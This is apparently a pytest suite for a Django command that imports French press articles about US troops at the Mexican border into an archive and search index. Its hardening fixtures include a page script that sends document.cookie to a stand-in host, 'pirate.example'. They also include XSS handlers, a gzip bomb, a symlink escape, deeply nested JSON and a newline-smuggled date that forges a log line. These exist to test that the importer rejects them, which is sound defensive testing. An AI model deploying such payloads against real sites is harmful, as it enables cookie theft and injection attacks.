"""`manage.py import_articles`: files in, Article rows and an honest report out."""

import datetime as dt
import gzip
import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from archive.models import Article
from search.engine.connection import backend

pytestmark = pytest.mark.usefixtures("empty_index")

PNG_HEADER = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"

BELGA = (
    " date 2018-10 (Belga) Plus de 5.000 militaires américains vont être déployés à la frontière mexicaine, "
    "a annoncé lundi le Pentagone.\n\n"
    "Ils s'ajouteront aux quelque 2.000 membres de la Garde nationale déjà sur le terrain.\n"
)
LE_MONDE = (
    "---\n"
    "title: Des soldats américains à la frontière\n"
    "date: 2018-11-05\n"
    "source: Le Monde\n"
    "url: https://www.lemonde.fr/international/article/2018/11/05/soldats.html\n"
    "lang: fr\n"
    "---\n"
    "Le **Pentagone** a confirmé le [déploiement](https://www.defense.gov/) de l'armée le long du Rio Grande.\n\n"
    "Les soldats posent des barbelés près de Laredo.\n"
)
HEADING = "# La caravane atteint Tijuana\n\nLes premiers migrants sont arrivés *dimanche* à Tijuana.\n"
NESTED = "Le Congrès débat du coût de la mission militaire, estimé à 200 millions de dollars.\n"
AFP_LINE_1 = {
    "title": "Trump veut 15.000 soldats",
    "date": "2018-10-31",
    "source": "AFP",
    "url": "https://www.afp.com/fr/infos/trump-15000-soldats",
    "text": "Donald Trump a évoqué mercredi l'envoi de 15.000 soldats à la frontière.",
}
AFP_LINE_3 = {"title": "Les Démocrates dénoncent", "text": "Les élus démocrates dénoncent une opération électorale."}


def run_import(*paths):
    """(stdout, stderr) of the command, as streams given to call_command."""
    out, err = io.StringIO(), io.StringIO()
    call_command("import_articles", *map(str, paths), stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def refused_lines(stderr):
    return [line for line in stderr.splitlines() if line.startswith("REFUSÉ")]


def summary(stdout):
    return stdout.strip().splitlines()[-1]


def build_mixed_folder(root):
    folder = root / "presse"
    (folder / "2018").mkdir(parents=True)
    (folder / ".cache").mkdir()
    (folder / "belga.txt").write_text(BELGA, encoding="utf-8")
    (folder / "lemonde.md").write_text(LE_MONDE, encoding="utf-8")
    (folder / "tijuana.md").write_text(HEADING, encoding="utf-8")
    (folder / "2018" / "congres.txt").write_text(NESTED, encoding="utf-8")
    (folder / "afp.jsonl").write_text(
        "\n".join(
            [
                json.dumps(AFP_LINE_1, ensure_ascii=False),
                '{"title": "Coupé", "text": "Le texte s\'arrête',
                json.dumps(AFP_LINE_3, ensure_ascii=False),
            ]
        )
        + "\n",
        encoding="utf-8",
    )
    # Bad ones.
    (folder / "vide.txt").write_bytes(b"")
    (folder / "photo.txt").write_bytes(PNG_HEADER)
    (folder / "rapport.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    (folder / "casse.md").write_text("---\ntitle: [Des soldats\n---\nTexte.\n", encoding="utf-8")
    # Hidden: neither imported nor refused.
    (folder / ".cache" / "brouillon.txt").write_text("Un brouillon caché.", encoding="utf-8")
    (folder / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")
    return folder


# A folder of good and bad files --------------------------------------------------


def test_it_imports_the_good_files_of_a_folder_and_refuses_each_bad_one_by_name(tmp_path):
    folder = build_mixed_folder(tmp_path)

    stdout, stderr = run_import(folder)

    assert summary(stdout) == "6 importé(s), 0 inchangé(s) (déjà présents), 5 refusé(s)."
    refused = refused_lines(stderr)
    assert len(refused) == 5
    assert {line.split(" : ")[0] for line in refused} == {
        "REFUSÉ  vide.txt",
        "REFUSÉ  photo.txt",
        "REFUSÉ  rapport.pdf",
        "REFUSÉ  casse.md",
        "REFUSÉ  afp.jsonl:2",
    }
    assert "REFUSÉ  vide.txt : fichier vide" in refused
    assert "REFUSÉ  photo.txt : fichier binaire, pas un texte" in refused
    assert any(line.startswith("REFUSÉ  rapport.pdf : format non pris en charge (.pdf)") for line in refused)
    assert any(line.startswith("REFUSÉ  casse.md : en-tête YAML invalide") for line in refused)
    assert any(line.startswith("REFUSÉ  afp.jsonl:2 : JSON invalide") for line in refused)
    assert "brouillon" not in stderr and "DS_Store" not in stderr

    articles = {article.ref: article for article in Article.objects.select_related("source")}
    assert set(articles) == {
        "belga.txt",
        "lemonde.md",
        "tijuana.md",
        "2018/congres.txt",
        "afp.jsonl:1",
        "afp.jsonl:3",
    }


def test_a_text_file_with_a_wire_header_gets_its_month_and_agency(tmp_path):
    build_mixed_folder(tmp_path)
    run_import(tmp_path / "presse")

    belga = Article.objects.get(ref="belga.txt")
    assert belga.title == (
        "Plus de 5.000 militaires américains vont être déployés à la frontière mexicaine, a annoncé lundi le Pentagone"
    )
    assert belga.title_generated is True
    assert belga.published_on == dt.date(2018, 10, 1)
    assert belga.date_precision == "month"
    assert belga.date_found_by == "header"
    assert belga.source.name == "Belga"
    assert belga.url == ""
    assert belga.body == (
        "Plus de 5.000 militaires américains vont être déployés à la frontière mexicaine, a annoncé lundi le "
        "Pentagone.\n\nIls s'ajouteront aux quelque 2.000 membres de la Garde nationale déjà sur le terrain."
    )
    assert belga.raw_text == BELGA


def test_markdown_front_matter_fills_title_date_source_and_url(tmp_path):
    build_mixed_folder(tmp_path)
    run_import(tmp_path / "presse")

    monde = Article.objects.get(ref="lemonde.md")
    assert monde.title == "Des soldats américains à la frontière"
    assert monde.title_generated is False
    assert monde.published_on == dt.date(2018, 11, 5)
    assert monde.date_precision == "day"
    assert monde.date_found_by == "metadata"
    assert monde.source.name == "Le Monde"
    assert monde.url == "https://www.lemonde.fr/international/article/2018/11/05/soldats.html"
    assert monde.language == "fr"
    assert monde.body == (
        "Le Pentagone a confirmé le déploiement de l'armée le long du Rio Grande.\n\n"
        "Les soldats posent des barbelés près de Laredo."
    )
    assert "**" not in monde.body and "defense.gov" not in monde.body and "---" not in monde.body


def test_a_markdown_heading_becomes_the_title_and_leaves_the_body(tmp_path):
    build_mixed_folder(tmp_path)
    run_import(tmp_path / "presse")

    tijuana = Article.objects.get(ref="tijuana.md")
    assert tijuana.title == "La caravane atteint Tijuana"
    assert tijuana.title_generated is False
    assert tijuana.body == "Les premiers migrants sont arrivés dimanche à Tijuana."
    assert tijuana.published_on is None
    assert tijuana.date_precision == "unknown"
    assert tijuana.date_found_by == ""
    assert tijuana.source is None


def test_a_file_in_a_subfolder_keeps_its_relative_path_as_ref(tmp_path):
    build_mixed_folder(tmp_path)
    run_import(tmp_path / "presse")

    congres = Article.objects.get(ref="2018/congres.txt")
    assert congres.title == "Le Congrès débat du coût de la mission militaire, estimé à 200 millions de dollars"
    assert congres.title_generated is True
    assert congres.body == NESTED.strip()
    assert congres.raw_text == NESTED


def test_the_good_lines_of_a_json_lines_file_are_imported_around_a_bad_one(tmp_path):
    build_mixed_folder(tmp_path)
    run_import(tmp_path / "presse")

    first = Article.objects.get(ref="afp.jsonl:1")
    assert first.title == "Trump veut 15.000 soldats"
    assert first.title_generated is False
    assert first.published_on == dt.date(2018, 10, 31)
    assert first.date_precision == "day"
    assert first.date_found_by == "metadata"
    assert first.source.name == "AFP"
    assert first.url == "https://www.afp.com/fr/infos/trump-15000-soldats"
    assert first.body == first.raw_text == AFP_LINE_1["text"]

    third = Article.objects.get(ref="afp.jsonl:3")
    assert third.title == "Les Démocrates dénoncent"
    assert third.body == AFP_LINE_3["text"]
    assert third.published_on is None
    assert third.source is None
    assert not Article.objects.filter(title="Coupé").exists()


def test_importing_the_same_folder_twice_changes_nothing_the_second_time(tmp_path):
    folder = build_mixed_folder(tmp_path)
    run_import(folder)
    before = {article.ref: (article.pk, article.slug, article.updated_at) for article in Article.objects.all()}

    stdout, stderr = run_import(folder)

    assert stdout.strip() == "0 importé(s), 6 inchangé(s) (déjà présents), 5 refusé(s)."
    assert len(refused_lines(stderr)) == 5
    assert Article.objects.count() == 6
    assert {article.ref: (article.pk, article.slug, article.updated_at) for article in Article.objects.all()} == before


def test_the_same_text_under_two_file_names_is_one_article(tmp_path):
    text = "Le Pentagone envoie 800 soldats à la frontière sud des États-Unis.\n\nLa mission durera trois mois.\n"
    (tmp_path / "a_original.txt").write_text(text, encoding="utf-8")
    # The copy differs only in line endings and trailing spaces.
    (tmp_path / "b_copie.txt").write_bytes(text.replace("\n", "  \r\n").encode())

    stdout, _ = run_import(tmp_path)

    assert summary(stdout) == "1 importé(s), 1 inchangé(s) (déjà présents), 0 refusé(s)."
    article = Article.objects.get()
    assert article.ref == "a_original.txt"
    assert article.raw_text == text


def test_the_import_summary_is_the_last_line_and_announces_indexing_only_when_something_was_imported(tmp_path):
    (tmp_path / "un.txt").write_text("Un article sur la frontière.", encoding="utf-8")
    stdout, stderr = run_import(tmp_path / "un.txt")
    assert stdout.splitlines() == [
        "Mise à jour de l'index de recherche…",
        "1 importé(s), 0 inchangé(s) (déjà présents), 0 refusé(s).",
    ]
    assert refused_lines(stderr) == []

    stdout, _ = run_import(tmp_path / "un.txt")
    assert stdout.splitlines() == ["0 importé(s), 1 inchangé(s) (déjà présents), 0 refusé(s)."]


def test_refusal_and_note_lines_go_to_the_stderr_stream_given_to_the_command(tmp_path):
    # call_command(stderr=...) is how Django redirects a command's errors (tests, scripts, cron wrappers).
    (tmp_path / "vide.txt").write_bytes(b"")
    (tmp_path / "lot.jsonl").write_text(json.dumps({"date": "hier", "text": "Un article sans date."}) + "\n")
    err = io.StringIO()

    call_command("import_articles", str(tmp_path), stdout=io.StringIO(), stderr=err)

    assert "REFUSÉ  vide.txt : fichier vide" in err.getvalue().splitlines()
    assert "NOTE    lot.jsonl:1 : date illisible « hier » ignorée" in err.getvalue().splitlines()


# When nothing can be read ------------------------------------------------------------


def test_a_json_lines_file_whose_every_line_is_bad_is_a_command_error(tmp_path):
    (tmp_path / "mauvais.jsonl").write_text(
        "\n".join(["{pas du json", "[1, 2]", json.dumps({"title": "Sans texte"})]) + "\n", encoding="utf-8"
    )
    out, err = io.StringIO(), io.StringIO()

    with pytest.raises(CommandError, match="Aucun article n'a pu être lu"):
        call_command("import_articles", str(tmp_path / "mauvais.jsonl"), stdout=out, stderr=err)

    assert out.getvalue().strip() == "0 importé(s), 0 inchangé(s) (déjà présents), 3 refusé(s)."
    assert [line.split(" : ")[0] for line in refused_lines(err.getvalue())] == [
        "REFUSÉ  mauvais.jsonl:1",
        "REFUSÉ  mauvais.jsonl:2",
        "REFUSÉ  mauvais.jsonl:3",
    ]
    assert Article.objects.count() == 0


def test_a_missing_path_is_a_command_error_that_says_it_was_not_found(tmp_path):
    missing = tmp_path / "introuvable" / "articles.txt"

    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_articles", str(missing), stdout=io.StringIO(), stderr=err)

    assert refused_lines(err.getvalue()) == [f"REFUSÉ  {missing} : introuvable"]


def test_a_missing_path_among_good_ones_is_refused_and_the_rest_imported(tmp_path):
    (tmp_path / "bon.txt").write_text("Un article sur la frontière.", encoding="utf-8")
    missing = tmp_path / "absent.txt"

    stdout, stderr = run_import(missing, tmp_path / "bon.txt")

    assert summary(stdout) == "1 importé(s), 0 inchangé(s) (déjà présents), 1 refusé(s)."
    assert refused_lines(stderr) == [f"REFUSÉ  {missing} : introuvable"]


def test_an_empty_folder_is_a_command_error(tmp_path):
    with pytest.raises(CommandError):
        call_command("import_articles", str(tmp_path), stdout=io.StringIO(), stderr=io.StringIO())


# Encodings, URLs, dates -----------------------------------------------------------------


def test_a_windows_1252_text_file_keeps_its_accents(tmp_path):
    text = "L’armée américaine a déployé 5.200 soldats à la frontière. « Ça coûte cher », dit un élu.\r\n"
    (tmp_path / "ancien.txt").write_bytes(text.encode("cp1252"))

    run_import(tmp_path / "ancien.txt")

    article = Article.objects.get()
    assert article.body == "L’armée américaine a déployé 5.200 soldats à la frontière. « Ça coûte cher », dit un élu."
    assert article.title == "L’armée américaine a déployé 5.200 soldats à la frontière"
    assert article.raw_text == text
    assert "\ufffd" not in article.body and "Ã" not in article.body


def test_a_utf8_file_with_a_byte_order_mark_is_read_without_it(tmp_path):
    (tmp_path / "bom.txt").write_bytes("\ufeffÉté 2018 : les soldats arrivent à Laredo.".encode())

    run_import(tmp_path / "bom.txt")

    article = Article.objects.get()
    assert article.body == "Été 2018 : les soldats arrivent à Laredo."
    assert not article.raw_text.startswith("\ufeff")


def test_a_json_lines_url_that_is_not_http_is_dropped(tmp_path):
    (tmp_path / "liens.jsonl").write_text(
        "\n".join(
            [
                json.dumps({"text": "Premier article.", "url": "javascript:alert(1)"}),
                json.dumps({"text": "Deuxième article.", "url": "HTTPS://www.example.org/b"}),
                json.dumps({"text": "Troisième article.", "url": "ftp://example.org/c"}),
            ]
        )
        + "\n"
    )

    run_import(tmp_path / "liens.jsonl")

    assert dict(Article.objects.values_list("ref", "url")) == {
        "liens.jsonl:1": "",
        "liens.jsonl:2": "HTTPS://www.example.org/b",
        "liens.jsonl:3": "",
    }
    assert not Article.objects.filter(url__icontains="javascript").exists()


def test_an_unreadable_json_lines_date_leaves_the_date_unknown_and_is_noted(tmp_path):
    (tmp_path / "dates.jsonl").write_text(
        json.dumps({"title": "Sans date", "date": "mardi dernier", "text": "Les soldats arrivent à El Paso."}) + "\n"
    )

    stdout, stderr = run_import(tmp_path / "dates.jsonl")

    assert summary(stdout) == "1 importé(s), 0 inchangé(s) (déjà présents), 0 refusé(s)."
    assert "NOTE    dates.jsonl:1 : date illisible « mardi dernier » ignorée" in stderr.splitlines()
    article = Article.objects.get()
    assert article.published_on is None
    assert article.date_precision == "unknown"
    assert article.date_found_by == ""


def test_a_json_lines_gz_file_is_imported(tmp_path):
    with gzip.open(tmp_path / "lot.jsonl.gz", "wt", encoding="utf-8") as stream:
        stream.write(json.dumps({"title": "Compressé", "date": "2019-02", "text": "Un texte compressé."}) + "\n")

    run_import(tmp_path / "lot.jsonl.gz")

    article = Article.objects.get()
    assert (article.ref, article.title, article.published_on, article.date_precision) == (
        "lot.jsonl.gz:1",
        "Compressé",
        dt.date(2019, 2, 1),
        "month",
    )


def test_a_record_with_nothing_left_after_cleaning_is_refused(tmp_path):
    (tmp_path / "lien.jsonl").write_text(json.dumps({"text": "https://t.co/abc123"}) + "\n")
    (tmp_path / "bon.txt").write_text("Un vrai article.", encoding="utf-8")

    stdout, stderr = run_import(tmp_path)

    assert summary(stdout) == "1 importé(s), 0 inchangé(s) (déjà présents), 1 refusé(s)."
    assert refused_lines(stderr) == ["REFUSÉ  lien.jsonl:1 : aucun texte d'article après nettoyage"]


# Crashes that should be refusals -------------------------------------------------------------


def test_an_impossible_front_matter_date_leaves_the_date_unknown_with_a_note(tmp_path):
    (tmp_path / "bon.txt").write_text("Un article sur la frontière.", encoding="utf-8")
    (tmp_path / "fevrier.md").write_text("---\ntitle: Des soldats\ndate: 2018-02-30\n---\nTexte.\n")

    stdout, stderr = run_import(tmp_path)

    assert summary(stdout) == "2 importé(s), 0 inchangé(s) (déjà présents), 0 refusé(s)."
    assert "NOTE    fevrier.md : date illisible « 2018-02-30 » ignorée" in stderr
    article = Article.objects.get(title="Des soldats")
    assert (article.published_on, article.date_precision) == (None, "unknown")


def test_a_corrupt_json_lines_gz_is_refused_and_the_other_files_imported(tmp_path):
    data = gzip.compress((json.dumps({"text": "Texte."}) + "\n").encode() * 20)
    (tmp_path / "abime.jsonl.gz").write_bytes(data[:10] + b"\xff" * 40)
    (tmp_path / "bon.txt").write_text("Un article sur la frontière.", encoding="utf-8")

    stdout, stderr = run_import(tmp_path)

    assert summary(stdout) == "1 importé(s), 0 inchangé(s) (déjà présents), 1 refusé(s)."
    assert [line.split(" : ")[0] for line in refused_lines(stderr)] == ["REFUSÉ  abime.jsonl.gz"]


# Search ------------------------------------------------------------------------------------------


def test_imported_articles_are_searchable_as_soon_as_the_command_ends(tmp_path):
    (tmp_path / "armee.txt").write_text("L'armée américaine déploie des soldats à Laredo.", encoding="utf-8")
    (tmp_path / "asile.txt").write_text("Les demandeurs d'asile attendent à Tijuana.", encoding="utf-8")

    run_import(tmp_path)

    found = backend().search("armee")
    assert found["hits"] == 1
    assert [result.pk for result in found["results"]] == [str(Article.objects.get(ref="armee.txt").pk)]
    assert backend().search("tijuana")["hits"] == 1


# A realistic saved page -------------------------------------------------------------------------

LE_DEVOIR_PARAGRAPHS = [
    "Le Pentagone a confirmé samedi que plusieurs milliers de militaires américains resteraient déployés le "
    "long de la frontière avec le Mexique jusqu'à la fin de l'année. Les soldats installent des barbelés, "
    "renforcent les postes d'entrée et assurent un soutien logistique aux agents de la patrouille frontalière, "
    "sans pouvoir procéder eux-mêmes à des arrestations.",
    "Cette mission, décidée par le président Donald Trump à la veille des élections de mi-mandat, suscite de "
    "nombreuses critiques au Congrès. Plusieurs élus démocrates dénoncent une opération coûteuse et politique, "
    "destinée selon eux à dramatiser l'arrivée de la caravane de migrants partie du Honduras au début du mois "
    "d'octobre.",
    "À Tijuana, les premiers migrants arrivés cette semaine attendent de pouvoir déposer une demande d'asile. "
    "Les autorités mexicaines estiment que plus de cinq mille personnes pourraient se présenter à la frontière "
    "dans les prochains jours, ce qui inquiète les habitants et les organisations humanitaires déjà débordées.",
]
LE_DEVOIR_PAGE = f"""<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<title>Des soldats américains déployés à la frontière | Le Devoir</title>
<meta property="og:site_name" content="Le Devoir">
<meta name="date" content="2018-11-17">
<link rel="canonical" href="https://www.ledevoir.com/monde/541234/des-soldats-a-la-frontiere">
</head>
<body>
<nav class="menu-principal">
  <ul>
    <li><a href="/politique">Politique</a></li>
    <li><a href="/monde">Monde</a></li>
    <li><a href="/abonnement">Abonnez-vous pour 1 $ par semaine</a></li>
  </ul>
</nav>
<article>
  <h1>Des soldats américains déployés à la frontière mexicaine</h1>
  <p>{LE_DEVOIR_PARAGRAPHS[0]}</p>
  <p>{LE_DEVOIR_PARAGRAPHS[1]}</p>
  <script>alert(1)</script>
  <p>{LE_DEVOIR_PARAGRAPHS[2]}</p>
</article>
<footer>
  <p>© Le Devoir inc., tous droits réservés. Conditions d'utilisation et politique de confidentialité.</p>
</footer>
</body>
</html>
"""


def test_a_saved_html_page_is_imported_with_its_article_only(tmp_path):
    (tmp_path / "ledevoir.html").write_text(LE_DEVOIR_PAGE, encoding="utf-8")

    stdout, stderr = run_import(tmp_path / "ledevoir.html")

    assert summary(stdout) == "1 importé(s), 0 inchangé(s) (déjà présents), 0 refusé(s)."
    article = Article.objects.select_related("source").get()
    assert article.ref == "ledevoir.html"
    assert article.title == "Des soldats américains déployés à la frontière mexicaine"
    assert article.title_generated is False
    assert article.published_on == dt.date(2018, 11, 17)
    assert article.date_precision == "day"
    assert article.date_found_by == "metadata"
    assert article.source.name == "Le Devoir"
    assert article.url == "https://www.ledevoir.com/monde/541234/des-soldats-a-la-frontiere"
    assert article.paragraphs == LE_DEVOIR_PARAGRAPHS
    assert article.lead == LE_DEVOIR_PARAGRAPHS[0]
    for unwanted in ("alert", "<script", "Politique", "Abonnez-vous", "droits réservés", "confidentialité"):
        assert unwanted not in article.body
    assert not article.body.startswith(article.title)


# The seed articles ------------------------------------------------------------------------------------


def test_the_seeds_are_five_articles(seeds):
    assert sorted(seeds) == [0, 1, 2, 3, 4]
    assert all(article.raw_text and article.body for article in seeds.values())


def test_seed_001_gets_its_month_and_agency_from_its_header(seeds):
    belga = seeds[1]
    assert belga.published_on == dt.date(2018, 10, 1)
    assert belga.date_precision == "month"
    assert belga.date_found_by == "header"
    assert belga.source.name == "Belga"
    assert belga.body.startswith("Plus de 5.000 militaires américains")
    assert "date 2018-10" not in belga.body
    assert belga.raw_text.startswith(" date 2018-10 (Belga) Plus de 5.000")


def test_seed_003_is_dated_from_the_tweet_it_embeds_at_month_precision(seeds):
    harris = seeds[3]
    assert harris.published_on == dt.date(2021, 6, 1)
    assert harris.date_precision == "month"
    assert harris.date_found_by == "text"
    assert "June 8, 2021" in harris.date_evidence


def test_no_other_seed_has_a_date_not_even_the_import_date(seeds):
    # 000 says "samedi", 002 "lundi" and "le 13 octobre", 004 "En février": no year, no date.
    for number in (0, 2, 4):
        article = seeds[number]
        assert article.published_on is None, number
        assert article.date_precision == "unknown", number
        assert article.date_found_by == "", number
    assert not any(article.published_on == dt.date.today() for article in seeds.values())


def test_seed_004_body_has_no_widget_label_nor_tag_footer(seeds):
    article = seeds[4]
    assert "Vidéos associées" not in article.body
    assert "Archivé dans" not in article.body
    assert "Vidéos associées" in article.raw_text and "Archivé dans" in article.raw_text
    assert article.body.startswith("La présidence de Donald Trump a commencé")


def test_seed_003_body_has_no_embedded_tweet_nor_footnote(seeds):
    article = seeds[3]
    assert "pic.twitter.com" not in article.body
    assert "t.co/" not in article.body
    assert "(@VP)" not in article.body
    assert "*en anglais" not in article.body
    assert "*" not in article.body
    assert "dans un tweet lors de son déplacement" in article.body
    assert "tweet*" in article.raw_text and "pic.twitter.com" in article.raw_text


def test_the_seeds_are_searchable_without_accents(seeds):
    found = backend().search("armee")
    assert found["hits"] >= 1
    assert str(seeds[0].pk) in {result.pk for result in found["results"]}


# Hardening: each hostile file is one refusal, the rest is imported ------------------------------------

SCRIPTED_PAGE = """<html lang="fr"><head><title>Des soldats à El Paso</title>
<style>article p { color: red }</style>
<script>var jeton = document.cookie; fetch("https://pirate.example/?c=" + jeton);</script>
</head><body onload="alert('charge')">
<article><h1>Des soldats à El Paso</h1>
<p>Les premiers soldats américains sont arrivés lundi à El Paso, au Texas, où ils installent des barbelés
le long du Rio Grande pour une mission qui doit durer jusqu'à la mi-décembre selon le Pentagone.</p>
<img src="x.jpg" onerror="alert('image')"><script>document.write('<p>injecté</p>')</script>
<p>Les habitants regardent passer <a href="javascript:alert('lien')">les convois</a> sans
<span onclick="alert('clic')">inquiétude</span>, disent les élus locaux interrogés par la presse.</p>
<template><p>alert('gabarit')</p></template><noscript>Activez JavaScript.</noscript>
</article></body></html>
"""


def build_hostile_folder(root):
    folder = root / "lot"
    folder.mkdir()
    outside = root / "ailleurs.txt"
    outside.write_text("Un texte hors du dossier importé.", encoding="utf-8")
    # Good ones, some in awkward encodings.
    (folder / "belga.txt").write_text(BELGA, encoding="utf-8")
    (folder / "utf16.txt").write_text("L'armée déploie des soldats à Nogales.", encoding="utf-16")
    (folder / "latin1.txt").write_bytes("Le général a visité la frontière à Noël.".encode("latin-1"))
    (folder / "page.html").write_text(SCRIPTED_PAGE, encoding="utf-8")
    (folder / "deux\nlignes.txt").write_text("Un fichier au nom sur deux lignes.", encoding="utf-8")
    (folder / "afp.jsonl").write_text(
        "\n".join(
            [
                json.dumps(AFP_LINE_1, ensure_ascii=False),
                "[" * 5000,
                json.dumps({"text": "x" * 20_000}),
                json.dumps({"text": "Une note piégée.", "date": "hier\nREFUSÉ  faux.txt : inventé"}),
                json.dumps(AFP_LINE_3, ensure_ascii=False),
            ]
        )
        + "\n",
        encoding="utf-8",
    )
    # Bad ones.
    (folder / "enorme.txt").write_text("mot " * 5000, encoding="utf-8")
    (folder / "lien.txt").symlink_to(outside)
    with gzip.open(folder / "bombe.jsonl.gz", "wb") as stream:
        stream.write(b"x" * 2_000_000)
    return folder


def test_a_folder_of_hostile_files_imports_the_good_ones_and_names_each_refusal_on_one_line(tmp_path):
    folder = build_hostile_folder(tmp_path)
    out, err = io.StringIO(), io.StringIO()

    call_command(
        "import_articles", str(folder), "--max-bytes=1000000", "--max-article-bytes=10000", stdout=out, stderr=err
    )

    assert summary(out.getvalue()) == "8 importé(s), 0 inchangé(s) (déjà présents), 5 refusé(s)."
    assert refused_lines(err.getvalue()) == [
        "REFUSÉ  afp.jsonl:2 : JSON invalide (trop imbriqué)",
        "REFUSÉ  afp.jsonl:3 : ligne trop longue pour un article : 20 ko (limite 10 ko, "
        "VIGIE_IMPORT_MAX_ARTICLE_BYTES ou --max-article-bytes)",
        "REFUSÉ  bombe.jsonl.gz : trop gros une fois décompressé : plus de 1 Mo (limite 1 Mo, "
        "VIGIE_IMPORT_MAX_BYTES ou --max-bytes)",
        "REFUSÉ  enorme.txt : trop gros pour un article : 20 ko (limite 10 ko, "
        "VIGIE_IMPORT_MAX_ARTICLE_BYTES ou --max-article-bytes)",
        "REFUSÉ  lien.txt : lien hors du dossier, non suivi",
    ]
    # The JSON date with a newline is noted on one line, not as a forged refusal.
    assert "NOTE    afp.jsonl:4 : date illisible « hier?REFUSÉ  faux.txt : inventé » ignorée" in err.getvalue()
    articles = {article.ref: article for article in Article.objects.all()}
    assert set(articles) == {
        "belga.txt",
        "utf16.txt",
        "latin1.txt",
        "page.html",
        "deux?lignes.txt",
        "afp.jsonl:1",
        "afp.jsonl:4",
        "afp.jsonl:5",
    }
    assert "L'armée déploie des soldats à Nogales." in articles["utf16.txt"].body
    assert "Le général a visité la frontière à Noël." in articles["latin1.txt"].body
    page = articles["page.html"]
    assert "Les habitants regardent passer les convois sans inquiétude" in page.body
    for code in ("alert", "document", "cookie", "pirate", "injecté", "color", "gabarit", "JavaScript"):
        assert code not in page.body
        assert code not in page.raw_text
    assert not Article.objects.filter(body__contains="hors du dossier").exists()


def test_the_size_limits_come_from_the_settings_when_the_options_are_not_given(tmp_path, settings):
    settings.VIGIE_IMPORT_MAX_BYTES = 1000
    settings.VIGIE_IMPORT_MAX_ARTICLE_BYTES = 100
    (tmp_path / "court.txt").write_text("Un article court sur la frontière.", encoding="utf-8")
    (tmp_path / "long.txt").write_text("mot " * 100, encoding="utf-8")
    (tmp_path / "lot.jsonl").write_text(json.dumps({"text": "mot " * 300}) + "\n", encoding="utf-8")

    stdout, stderr = run_import(tmp_path)

    assert summary(stdout) == "1 importé(s), 0 inchangé(s) (déjà présents), 2 refusé(s)."
    assert refused_lines(stderr) == [
        "REFUSÉ  long.txt : trop gros pour un article : 400 octets (limite 100 octets, "
        "VIGIE_IMPORT_MAX_ARTICLE_BYTES ou --max-article-bytes)",
        "REFUSÉ  lot.jsonl : fichier trop gros : 1,2 ko (limite 1 ko, VIGIE_IMPORT_MAX_BYTES ou --max-bytes)",
    ]
